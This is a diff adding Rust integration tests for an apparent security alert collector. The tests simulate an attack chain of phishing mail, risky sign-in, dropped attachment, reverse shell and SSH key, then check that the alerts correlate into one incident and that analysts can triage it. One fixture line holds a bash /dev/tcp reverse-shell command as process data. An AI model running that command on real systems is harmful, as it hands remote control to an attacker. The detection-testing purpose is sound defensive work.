@@ -1,0 +1,629 @@
+//! Incidents end to end against a real collector: a scripted attack across all
+//! three sources (a phishing mail with an attachment to alice, her risky sign-in
+//! from a new country, the attachment's hash written on her laptop and a reverse
+//! shell spawned from it, then a new SSH key on a server written from the laptop's
+//! address) becomes ONE incident with the right reasons and tactics, while noise
+//! from other devices and users stays out. Analysts triage it through the API,
+//! and a restarted collector keeps correlating into the same incident.
+//!
+//! The mail and sign-in alerts come from the real feed routes (Defender email
+//! records, Entra sign-in records); the merge test writes feed alerts into the
+//! store from this process, as `ward-collector import` does from another one: the
+//! correlator tails the alerts table, so it picks them up however they arrived.
+
+#![allow(clippy::unwrap_used, clippy::expect_used)]
+
+use std::time::{Duration, Instant};
+
+use ring::rand::SystemRandom;
+use serde_json::{Value, json};
+use ward_collector::store::{AlertSource, SourcedAlert, Store};
+use ward_protocol::*;
+use ward_tests::*;
+
+const MIN: u64 = 60_000;
+const HASH: [u8; 32] = [0x5a; 32];
+
+fn rule(id: &str, title: &str, severity: Severity, technique: &str, tactics: &[&str]) -> RuleRef {
+    RuleRef {
+        id: id.into(),
+        title: title.into(),
+        author: "Ward tests".into(),
+        severity,
+        techniques: vec![technique.into()],
+        tactics: tactics.iter().map(|t| t.to_string()).collect(),
+    }
+}
+
+fn new_id(at: u64) -> String {
+    AlertId::generate(at, &SystemRandom::new()).unwrap().to_string()
+}
+
+/// Writes feed alerts into the collector's database from this process.
+fn import(collector: &Collector, alerts: &[SourcedAlert]) {
+    let mut store = Store::open(&collector.data_dir().join("ward.db")).unwrap();
+    let out = store.insert_sourced_alerts(alerts, now_ms()).unwrap();
+    assert_eq!(out.stored as usize, alerts.len());
+}
+
+fn feed(source: AlertSource, at: u64, rule: RuleRef, entities: Vec<Entity>) -> SourcedAlert {
+    SourcedAlert {
+        id: new_id(at),
+        source,
+        device_id: None,
+        observed_at_ms: at,
+        last_observed_at_ms: at,
+        rule,
+        entities,
+        count: 1,
+        matched: serde_json::Map::new(),
+    }
+}
+
+/// Sends one alert with chosen rule and entities from a device; returns its id.
+async fn send(dev: &mut TestDevice, at: u64, rule: RuleRef, entities: Vec<Entity>) -> String {
+    let mut a = dev.next_alert();
+    a.observed_at_ms = at;
+    a.last_observed_at_ms = at;
+    a.rule = rule;
+    a.entities = entities;
+    let id = a.id.to_string();
+    let signed = dev.sign(&a);
+    dev.send_batch(vec![signed]).await.unwrap();
+    id
+}
+
+/// Waits until the correlator placed `alert`; returns its incident id and how long it took.
+async fn incident_of(collector: &Collector, alert: &str) -> (String, Duration) {
+    let started = Instant::now();
+    loop {
+        let found: Option<String> = collector
+            .db()
+            .unwrap()
+            .query_row(
+                "SELECT ia.incident_id FROM incident_alerts ia JOIN alerts a ON a.rowid = ia.alert_rowid WHERE a.id = ?1",
+                [alert],
+                |r| r.get(0),
+            )
+            .ok();
+        if let Some(id) = found {
+            return (id, started.elapsed());
+        }
+        assert!(
+            started.elapsed() < Duration::from_secs(10),
+            "alert {alert} was not correlated within 10 s"
+        );
+        tokio::time::sleep(Duration::from_millis(20)).await;
+    }
+}
+
+fn user(name: &str, uid: Option<u32>) -> Entity {
+    Entity::User { name: name.into(), uid }
+}
+
+fn ip(a: &str) -> Entity {
+    Entity::Ip {
+        addr: a.parse().unwrap(),
+    }
+}
+
+fn reason_of(detail: &Value, alert: &str) -> String {
+    detail["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| a["alert"]["id"] == alert)
+        .unwrap_or_else(|| panic!("alert {alert} not in {detail}"))["reason"]
+        .as_str()
+        .unwrap()
+        .to_string()
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn an_attack_across_mail_identity_and_devices_is_one_incident() {
+    let mut collector = Collector::start().unwrap();
+    let ann = collector.user("ann", "analyst").unwrap();
+    let vera = collector.user("vera", "viewer").unwrap();
+    let token = collector.join_token(5, "1h").unwrap();
+    let mut laptop = TestDevice::enroll_at(&token, "laptop-alice", "10.20.0.5", "alice")
+        .await
+        .unwrap();
+    let mut server = TestDevice::enroll_at(&token, "srv-db", "10.20.0.9", "alice")
+        .await
+        .unwrap();
+    let mut other = TestDevice::enroll_at(&token, "laptop-bob", "10.20.0.7", "bob")
+        .await
+        .unwrap();
+    laptop.connect().await.unwrap();
+    server.connect().await.unwrap();
+    other.connect().await.unwrap();
+    let t0 = now_ms() - 3 * 60 * MIN;
+
+    // 1. The phishing mail with an attachment, delivered to alice (Defender EmailEvents
+    //    and EmailAttachmentInfo, as the streaming API exports them).
+    let (status, report) = collector
+        .post_bytes_as("/api/v1/feeds/mailbox", &ann, mail_export(t0))
+        .await
+        .unwrap();
+    assert_eq!(status, 200, "{report}");
+    let mail_id = feed_alert(&collector, "ward-mailbox-malicious-delivered", "alice@contoso.com").await;
+    let (incident, _) = incident_of(&collector, &mail_id).await;
+
+    // 2. alice's risky sign-in from a new country (an Entra SigninLogs record), and
+    //    noise: carol's risky sign-in from elsewhere.
+    let (status, report) = collector
+        .post_bytes_as("/api/v1/feeds/identity", &ann, sign_in_export(t0 + 20 * MIN))
+        .await
+        .unwrap();
+    assert_eq!(status, 200, "{report}");
+    let signin_id = feed_alert(&collector, "ward-identity-risky-sign-in", "alice@contoso.com").await;
+    let noise_signin = feed_alert(&collector, "ward-identity-risky-sign-in", "carol@contoso.com").await;
+
+    // 3. The attachment lands on alice's laptop; 4. a reverse shell spawned from it.
+    let dropped = send(
+        &mut laptop,
+        t0 + 40 * MIN,
+        rule(
+            "ward-file-from-mail",
+            "Mail attachment written to disk",
+            Severity::Medium,
+            "T1204.002",
+            &["TA0002"],
+        ),
+        vec![
+            user("alice", Some(1000)),
+            Entity::File {
+                path: "/home/alice/Downloads/invoice.docm".into(),
+                sha256: Some(HASH),
+            },
+        ],
+    )
+    .await;
+    let shell = send(
+        &mut laptop,
+        t0 + 41 * MIN,
+        rule(
+            "ward-revshell",
+            "Reverse shell",
+            Severity::High,
+            "T1059.004",
+            &["TA0002", "TA0011"],
+        ),
+        vec![
+            user("alice", Some(1000)),
+            Entity::Process {
+                pid: 4242,
+                ppid: 4200,
+                start_time_ms: t0 + 41 * MIN,
+                exe: "/usr/bin/bash".into(),
+                cmdline: "bash -i >& /dev/tcp/203.0.113.50/443 0>&1".into(),
+                sha256: None,
+            },
+            ip("203.0.113.50"),
+        ],
+    )
+    .await;
+    let noise_device = send(
+        &mut other,
+        t0 + 42 * MIN,
+        rule(
+            "ward-test-rule",
+            "Timestomping",
+            Severity::Medium,
+            "T1070.006",
+            &["TA0005"],
+        ),
+        vec![
+            user("bob", Some(1001)),
+            user("root", Some(0)),
+            Entity::File {
+                path: "/etc/cron.d/x".into(),
+                sha256: Some([0x11; 32]),
+            },
+        ],
+    )
+    .await;
+    // 5. A new SSH key on the server, written from the laptop's address.
+    let ssh_key = send(
+        &mut server,
+        t0 + 60 * MIN,
+        rule(
+            "ward-ssh-authorized-keys",
+            "New SSH authorized key",
+            Severity::High,
+            "T1098.004",
+            &["TA0003"],
+        ),
+        vec![
+            user("alice", Some(1001)),
+            ip("10.20.0.5"),
+            Entity::File {
+                path: "/home/alice/.ssh/authorized_keys".into(),
+                sha256: None,
+            },
+        ],
+    )
+    .await;
+    let (in_incident, latency) = incident_of(&collector, &ssh_key).await;
+    // From the collector's acknowledgement to the alert's place in an incident.
+    eprintln!("alert to incident after the acknowledgement: {latency:?}");
+    assert!(latency < Duration::from_secs(1), "alert to incident took {latency:?}");
+    assert_eq!(in_incident, incident);
+    for a in [&signin_id, &dropped, &shell] {
+        assert_eq!(incident_of(&collector, a).await.0, incident, "alert {a}");
+    }
+    for noise in [&noise_signin, &noise_device] {
+        assert_ne!(
+            incident_of(&collector, noise).await.0,
+            incident,
+            "noise alert {noise} joined"
+        );
+    }
+
+    // The incident page: every alert in time order with its reason.
+    let (status, detail) = collector
+        .get_as(&format!("/api/v1/incidents/{incident}"), &vera)
+        .await
+        .unwrap();
+    assert_eq!(status, 200, "{detail}");
+    let ids: Vec<&str> = detail["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["alert"]["id"].as_str().unwrap())
+        .collect();
+    assert_eq!(ids, [&mail_id, &signin_id, &dropped, &shell, &ssh_key]);
+    assert_eq!(reason_of(&detail, &mail_id), "first alert of the incident");
+    let why = reason_of(&detail, &signin_id);
+    assert!(
+        why.ends_with(&format!("same user alice within 20 min of alert {mail_id}")),
+        "{why}"
+    );
+    assert_eq!(
+        reason_of(&detail, &dropped),
+        format!("shares file {} with alert {mail_id}", hex_of(&HASH))
+    );
+    assert_eq!(
+        reason_of(&detail, &shell),
+        format!("same device laptop-alice as alert {dropped}")
+    );
+    assert_eq!(
+        reason_of(&detail, &ssh_key),
+        format!("connection from 10.20.0.5, the address of laptop-alice: same device laptop-alice as alert {shell}")
+    );
+    let inc = &detail["incident"];
+    let tactics: Vec<&str> = inc["tactics"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|t| t["id"].as_str().unwrap())
+        .collect();
+    assert_eq!(tactics, ["TA0001", "TA0002", "TA0003", "TA0011"]);
+    assert_eq!(inc["tactics"][0]["name"], "Initial Access");
+    assert_eq!(
+        inc["severity"], "critical",
+        "high alerts, raised for several stages and sources"
+    );
+    assert_eq!(inc["sources"], json!(["agent", "identity", "mailbox"]));
+    assert_eq!(inc["status"], "active");
+    assert_eq!(
+        (inc["alert_count"].as_i64(), inc["device_count"].as_i64()),
+        (Some(5), Some(2))
+    );
+    assert_eq!(detail["scope"]["alerts"], 5);
+    assert_eq!(detail["devices"].as_array().unwrap().len(), 2);
+    assert!(
+        inc["title"]
+            .as_str()
+            .unwrap()
+            .starts_with("Multi-stage incident involving Initial Access & Command and Control"),
+        "{inc}"
+    );
+    let entity = |kind: &str, key: &str| {
+        detail["entities"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .find(|e| e["kind"] == kind && e["key"] == key)
+            .unwrap_or_else(|| panic!("no {kind} {key} in {}", detail["entities"]))
+            .clone()
+    };
+    let attachment = entity("file", &hex_of(&HASH));
+    assert_eq!(attachment["verdict"], "malicious");
+    assert_eq!(attachment["alert_ids"].as_array().unwrap().len(), 2);
+    assert!(attachment["roles"].as_array().unwrap().contains(&json!("attachment")));
+    assert_eq!(entity("device", "laptop-alice")["remediation"], "none");
+    assert!(detail["timeline"].as_array().unwrap().len() >= 5);
+
+    // Lists and filters.
+    for filter in [
+        "user=alice",
+        "user=alice@contoso.com",
+        "device=laptop-alice",
+        "tactic=TA0003",
+        "source=mailbox",
+        "severity=critical",
+    ] {
+        let (status, list) = collector
+            .get_as(&format!("/api/v1/incidents?{filter}"), &vera)
+            .await
+            .unwrap();
+        assert_eq!(status, 200, "{list}");
+        let found: Vec<&str> = list["incidents"]
+            .as_array()
+            .unwrap()
+            .iter()
+            .map(|i| i["id"].as_str().unwrap())
+            .collect();
+        assert_eq!(found, [incident.as_str()], "filter {filter}: {list}");
+    }
+    let (_, all) = collector.get("/api/v1/incidents?sort=severity").await.unwrap();
+    assert_eq!(all["incidents"].as_array().unwrap().len(), 3, "{all}");
+    assert_eq!(all["incidents"][0]["id"], incident.as_str());
+
+    // Triage: viewers read only; analysts change, and every change is in the activity log.
+    let (status, _) = collector
+        .patch_as(
+            &format!("/api/v1/incidents/{incident}"),
+            &vera,
+            json!({"status": "in_progress"}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(status, 403);
+    for (path, body) in [
+        (format!("/api/v1/incidents/{incident}/comments"), json!({"text": "hi"})),
+        (
+            format!("/api/v1/incidents/{incident}/merge"),
+            json!({"from": [incident]}),
+        ),
+        (
+            format!("/api/v1/incidents/{incident}/alerts/{ssh_key}/move"),
+            json!({"to": null}),
+        ),
+    ] {
+        let (status, _) = collector.post_as(&path, &vera, body).await.unwrap();
+        assert_eq!(status, 403, "{path}");
+    }
+    let (status, patched) = collector
+        .patch_as(
+            &format!("/api/v1/incidents/{incident}"),
+            &ann,
+            json!({"status": "in_progress", "assignee": "ann", "tags": ["phishing"], "classification": "true_positive"}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(status, 200, "{patched}");
+    assert_eq!(patched["incident"]["assignee"], "ann");
+    assert_eq!(patched["incident"]["tags"], json!(["phishing"]));
+    let (status, c) = collector
+        .post_as(
+            &format!("/api/v1/incidents/{incident}/comments"),
+            &ann,
+            json!({"text": "isolating the laptop"}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(status, 201, "{c}");
+    let (_, detail) = collector.get(&format!("/api/v1/incidents/{incident}")).await.unwrap();
+    let kinds: Vec<&str> = detail["activity"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| a["kind"].as_str().unwrap())
+        .collect();
+    for k in ["created", "status", "assignee", "tags", "classification", "comment"] {
+        assert!(kinds.contains(&k), "{k} missing from {kinds:?}");
+    }
+    assert_eq!(detail["comments"][0]["text"], "isolating the laptop");
+    let (status, bad) = collector
+        .patch_as(
+            &format!("/api/v1/incidents/{incident}"),
+            &ann,
+            json!({"status": "redirected"}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(status, 400, "{bad}");
+
+    // A restarted collector rebuilds its state and keeps correlating into the same incident.
+    collector.stop().unwrap();
+    collector.serve().unwrap();
+    laptop.connect().await.unwrap();
+    let later = send(
+        &mut laptop,
+        t0 + 90 * MIN,
+        rule(
+            "ward-discovery",
+            "Discovery commands",
+            Severity::Low,
+            "T1082",
+            &["TA0007"],
+        ),
+        vec![user("alice", Some(1000))],
+    )
+    .await;
+    assert_eq!(incident_of(&collector, &later).await.0, incident);
+}
+
+/// RFC 3339 of Unix milliseconds (civil date from days since 1970, Howard Hinnant's algorithm).
+fn ms_rfc3339(ms: u64) -> String {
+    let (secs, millis) = (ms / 1000, ms % 1000);
+    let (days, rem) = (secs / 86_400, secs % 86_400);
+    let z = days as i64 + 719_468;
+    let era = z.div_euclid(146_097);
+    let doe = z - era * 146_097;
+    let yoe = (doe - doe / 1460 + doe / 36_524 - doe / 146_096) / 365;
+    let doy = doe - (365 * yoe + yoe / 4 - yoe / 100);
+    let mp = (5 * doy + 2) / 153;
+    let day = doy - (153 * mp + 2) / 5 + 1;
+    let month = if mp < 10 { mp + 3 } else { mp - 9 };
+    let year = yoe + era * 400 + i64::from(month <= 2);
+    format!(
+        "{year:04}-{month:02}-{day:02}T{:02}:{:02}:{:02}.{millis:03}Z",
+        rem / 3600,
+        rem % 3600 / 60,
+        rem % 60
+    )
+}
+
+/// A Defender streaming export: a malicious mail with an attachment delivered to alice.
+fn mail_export(at: u64) -> Vec<u8> {
+    let t = ms_rfc3339(at);
+    let msg = "a11ce000-0000-4c1e-9a53-0b6f1e2d3c4a";
+    json!({"records": [
+        {"time": t, "category": "AdvancedHunting-EmailEvents", "properties": {
+            "Timestamp": t, "NetworkMessageId": msg, "InternetMessageId": "<inv-1@invoices.example>",
+            "SenderMailFromAddress": "billing@invoices.example", "SenderFromAddress": "Billing@Invoices.example",
+            "SenderFromDomain": "invoices.example", "SenderIPv4": "203.0.113.25",
+            "RecipientEmailAddress": "Alice@contoso.com", "Subject": "Invoice overdue", "EmailDirection": "Inbound",
+            "DeliveryAction": "Delivered", "DeliveryLocation": "Inbox/folder", "ThreatTypes": "Malware",
+            "DetectionMethods": "{\"Malware\":[\"File detonation\"]}", "AttachmentCount": 1, "UrlCount": 0,
+            "ReportId": format!("{msg}-1")}},
+        {"time": t, "category": "AdvancedHunting-EmailAttachmentInfo", "properties": {
+            "Timestamp": t, "NetworkMessageId": msg, "SenderFromAddress": "Billing@Invoices.example",
+            "RecipientEmailAddress": "Alice@contoso.com", "FileName": "invoice.docm", "FileType": "docm",
+            "SHA256": hex_of(&HASH).to_ascii_uppercase(), "FileSize": 48213, "ThreatTypes": "Malware",
+            "ReportId": format!("{msg}-2")}}
+    ]})
+    .to_string()
+    .into_bytes()
+}
+
+/// Entra sign-in records: alice at high risk from a country she never signed in from;
+/// carol at high risk from elsewhere.
+fn sign_in_export(at: u64) -> Vec<u8> {
+    let record = |id: &str, upn: &str, ip: &str, city: &str, country: &str| {
+        json!({"category": "SignInLogs", "resultType": "0", "callerIpAddress": ip, "time": ms_rfc3339(at),
+            "properties": {"id": id, "userPrincipalName": upn, "createdDateTime": ms_rfc3339(at), "ipAddress": ip,
+                "appDisplayName": "Office 365", "clientAppUsed": "Browser",
+                "location": {"city": city, "countryOrRegion": country},
+                "riskLevelDuringSignIn": "High", "riskState": "atRisk", "status": {"errorCode": 0}}})
+    };
+    json!({"records": [
+        record("sign-in-alice", "alice@contoso.com", "198.51.100.23", "Lagos", "NG"),
+        record("sign-in-carol", "carol@contoso.com", "192.0.2.77", "Lima", "PE"),
+    ]})
+    .to_string()
+    .into_bytes()
+}
+
+/// The id of the alert `rule` raised about `user` (as its user entity names them).
+async fn feed_alert(collector: &Collector, rule: &str, user: &str) -> String {
+    let (status, body) = collector.get(&format!("/api/v1/alerts?rule={rule}")).await.unwrap();
+    assert_eq!(status, 200, "{body}");
+    body["alerts"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|a| {
+            a["entities"]
+                .as_array()
+                .unwrap()
+                .iter()
+                .any(|e| e["kind"] == "user" && e["name"] == user)
+        })
+        .unwrap_or_else(|| panic!("no {rule} alert for {user} in {body}"))["id"]
+        .as_str()
+        .unwrap()
+        .to_string()
+}
+
+fn hex_of(h: &[u8; 32]) -> String {
+    h.iter().map(|b| format!("{b:02x}")).collect()
+}
+
+/// Merge and move through the API, and the no-auto-merge rule for assignees.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn analysts_merge_and_move_alerts_through_the_api() {
+    let collector = Collector::start().unwrap();
+    let ann = collector.user("ann", "analyst").unwrap();
+    let t0 = now_ms() - 60 * MIN;
+    let signin = |who: &str, at: u64| {
+        feed(
+            AlertSource::Identity,
+            at,
+            rule(
+                "ward-identity-risky-sign-in",
+                "Risky sign-in",
+                Severity::Medium,
+                "T1078",
+                &["TA0001"],
+            ),
+            vec![user(&format!("{who}@contoso.com"), None)],
+        )
+    };
+    let (d1, e1) = (signin("dave", t0), signin("erin", t0 + MIN));
+    import(&collector, &[d1.clone(), e1.clone()]);
+    let dave = incident_of(&collector, &d1.id).await.0;
+    let erin = incident_of(&collector, &e1.id).await.0;
+    assert_ne!(dave, erin);
+    // Different assignees: a bridging alert does not merge them.
+    for (inc, who) in [(&dave, "ann"), (&erin, "ben")] {
+        let (s, b) = collector
+            .patch_as(&format!("/api/v1/incidents/{inc}"), &ann, json!({"assignee": who}))
+            .await
+            .unwrap();
+        assert_eq!(s, 200, "{b}");
+    }
+    let mut bridge = signin("dave", t0 + 2 * MIN);
+    bridge.entities.push(user("erin@contoso.com", None));
+    import(&collector, &[bridge.clone()]);
+    assert_eq!(incident_of(&collector, &bridge.id).await.0, dave);
+    let (_, e) = collector.get(&format!("/api/v1/incidents/{erin}")).await.unwrap();
+    assert_eq!(e["incident"]["status"], "active");
+    let (_, d) = collector.get(&format!("/api/v1/incidents/{dave}")).await.unwrap();
+    assert!(
+        reason_of(&d, &bridge.id).contains("not merged: different assignees"),
+        "{d}"
+    );
+
+    // By hand: merge erin's into dave's; the merged one answers as redirected.
+    let (s, merged) = collector
+        .post_as(
+            &format!("/api/v1/incidents/{dave}/merge"),
+            &ann,
+            json!({"from": [erin]}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(s, 200, "{merged}");
+    assert_eq!(merged["incident"]["alert_count"], 3);
+    let (s, e) = collector.get(&format!("/api/v1/incidents/{erin}")).await.unwrap();
+    assert_eq!(
+        (s, &e["incident"]["status"], &e["incident"]["redirected_to"]),
+        (200, &json!("redirected"), &json!(dave))
+    );
+    let (_, redirected) = collector.get("/api/v1/incidents?status=redirected").await.unwrap();
+    assert_eq!(redirected["incidents"].as_array().unwrap().len(), 1);
+
+    // Move erin's first alert out into a new incident.
+    let (s, moved) = collector
+        .post_as(
+            &format!("/api/v1/incidents/{dave}/alerts/{}/move", e1.id),
+            &ann,
+            json!({"to": null, "reason": "different person"}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(s, 200, "{moved}");
+    let new = moved["incident"]["id"].as_str().unwrap();
+    assert_eq!(moved["incident"]["alert_count"], 1);
+    let (_, n) = collector.get(&format!("/api/v1/incidents/{new}")).await.unwrap();
+    assert_eq!(
+        reason_of(&n, &e1.id),
+        format!("moved by ann from incident {dave}: different person")
+    );
+    assert_eq!(n["alerts"][0]["linked_by"], "ann");
+    let (s, _) = collector
+        .post_as(
+            &format!("/api/v1/incidents/{dave}/alerts/{}/move", e1.id),
+            &ann,
+            json!({"to": null}),
+        )
+        .await
+        .unwrap();
+    assert_eq!(s, 400, "the alert is no longer there");
+    let (s, _) = collector.get("/api/v1/incidents/not-an-id").await.unwrap();
+    assert_eq!(s, 400);
+}
